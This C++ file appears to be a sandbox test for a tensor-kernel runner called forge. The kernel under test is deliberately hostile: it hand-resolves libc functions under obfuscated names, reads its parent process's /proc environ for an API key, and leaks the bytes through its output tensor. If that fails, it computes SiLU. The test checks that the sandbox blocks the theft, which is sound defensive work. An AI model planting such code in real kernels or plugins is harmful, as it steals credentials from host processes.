// expect: ok
// Reads its parent's /proc/<pid>/environ (forge's: where an API key would be) and writes any bytes it got as its output; a worker that is not root reads nothing (forge is non-dumpable; given up root, the worker sees no other user's process), so it computes right.
#include <elf.h>
#include <math.h>
#include <stdint.h>
#include <string.h>

#include "forge_abi.h"

typedef int (*pid_fn)();
typedef int (*open_fn)(const char*, int, int);
typedef long (*read_fn)(int, void*, unsigned long);
typedef int (*close_fn)(int);

static bool same(const char* a, const char* b) {
  while (*a && *a == *b) ++a, ++b;
  return *a == *b;
}

static void* find_in_libc(const char* name) {
  uintptr_t page = reinterpret_cast<uintptr_t>(&memcpy) & ~static_cast<uintptr_t>(4095);
  for (int i = 0; i < 8192; ++i, page -= 4096) {  // back through libc's mapped pages to its ELF header
    const Elf64_Ehdr* eh = reinterpret_cast<const Elf64_Ehdr*>(page);
    if (memcmp(eh->e_ident, ELFMAG, SELFMAG) != 0 || eh->e_type != ET_DYN) continue;
    const Elf64_Phdr* ph = reinterpret_cast<const Elf64_Phdr*>(page + eh->e_phoff);
    const Elf64_Dyn* dyn = nullptr;
    for (int p = 0; p < eh->e_phnum; ++p)
      if (ph[p].p_type == PT_DYNAMIC) dyn = reinterpret_cast<const Elf64_Dyn*>(page + ph[p].p_vaddr);
    if (!dyn) return nullptr;
    uintptr_t symtab = 0, strtab = 0;
    for (; dyn->d_tag != DT_NULL; ++dyn) {
      if (dyn->d_tag == DT_SYMTAB) symtab = dyn->d_un.d_ptr;
      if (dyn->d_tag == DT_STRTAB) strtab = dyn->d_un.d_ptr;
    }
    if (symtab < page) symtab += page;  // relocated in place or not, depending on the C library
    if (strtab < page) strtab += page;
    for (const Elf64_Sym* s = reinterpret_cast<const Elf64_Sym*>(symtab); reinterpret_cast<uintptr_t>(s) < strtab; ++s)
      if (s->st_value && same(reinterpret_cast<const char*>(strtab + s->st_name), name))
        return reinterpret_cast<void*>(page + s->st_value);
    return nullptr;
  }
  return nullptr;
}
static long read_from_parent(unsigned char* buf, unsigned long size) {
  const char p[] = {'g', 'e', 't', 'p', 'p', 'i', 'd', 0}, o[] = {'o', 'p', 'e', 'n', 0};
  const char r[] = {'r', 'e', 'a', 'd', 0}, c[] = {'c', 'l', 'o', 's', 'e', 0};
  pid_fn parent = reinterpret_cast<pid_fn>(find_in_libc(p));
  open_fn make = reinterpret_cast<open_fn>(find_in_libc(o));
  read_fn take = reinterpret_cast<read_fn>(find_in_libc(r));
  close_fn shut = reinterpret_cast<close_fn>(find_in_libc(c));
  if (!parent || !make || !take || !shut) return -1;
  char path[64] = {'/', 'p', 'r', 'o', 'c', '/'};
  char digits[16];
  int len = 0;
  for (int pid = parent(); pid > 0 && len < 15; pid /= 10) digits[len++] = static_cast<char>('0' + pid % 10);
  int at = 6;
  while (len) path[at++] = digits[--len];
  const char tail[] = {'/', 'e', 'n', 'v', 'i', 'r', 'o', 'n', 0};
  memcpy(path + at, tail, sizeof tail);
  int fd = make(path, 0, 0);  // O_RDONLY: reads are what the seccomp filter lets through
  if (fd < 0) return -1;
  long got = take(fd, buf, size);
  shut(fd);
  return got;
}

extern "C" int forge_launch(const ForgeTensor* in, int n_in, ForgeTensor* out, int n_out) {
  static unsigned char leaked[4096];
  static long got = -2;
  if (got == -2) got = read_from_parent(leaked, sizeof leaked);
  if (got > 0) {  // the secret goes out in the outputs
    int64_t n = 1;
    for (int d = 0; d < out[0].ndim; ++d) n *= out[0].shape[d];
    float* y = static_cast<float*>(out[0].data);
    for (int64_t i = 0; i < n; ++i) y[i] = static_cast<float>(leaked[i % got]);
    return 0;
  }
  int64_t n = 1;
  for (int d = 0; d < in[0].ndim; ++d) n *= in[0].shape[d];
  const float* x = static_cast<const float*>(in[0].data);
  float* y = static_cast<float*>(out[0].data);
  for (int64_t i = 0; i < n; ++i) y[i] = x[i] / (1.0f + expf(-x[i]));
  return 0;
}
